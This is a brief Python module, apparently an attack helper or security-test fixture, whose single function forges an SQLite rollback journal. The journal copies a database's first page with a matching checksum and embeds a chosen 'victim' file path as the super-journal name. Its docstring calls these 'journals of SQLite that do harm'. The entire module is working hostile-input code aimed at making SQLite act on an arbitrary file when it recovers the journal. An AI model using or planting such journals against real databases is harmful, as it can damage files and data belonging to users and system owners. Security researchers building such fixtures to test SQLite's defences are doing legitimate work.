"""Journals of SQLite that do harm."""

import os

_SECTOR = 512
_MAGIC = bytes.fromhex("d9d505f920a163d7")


def journal_that_names(victim, database):
    """A rollback journal of the first page, which names a file as that of several databases."""
    content = database.read_bytes()
    size = int.from_bytes(content[16:18], "big")
    head = _MAGIC + b"".join(
        number.to_bytes(4, "big") for number in (1, 0, len(content) // size, _SECTOR, size)
    )
    sum_of_page = sum(content[size - 200 : 0 : -200]) & 0xFFFFFFFF
    page = (1).to_bytes(4, "big") + content[:size] + sum_of_page.to_bytes(4, "big")
    name = os.fsencode(victim)
    end = (0x40000000 // size + 1).to_bytes(4, "big") + name + len(name).to_bytes(4, "big")
    return head.ljust(_SECTOR, b"\0") + page + end + sum(name).to_bytes(4, "big") + _MAGIC
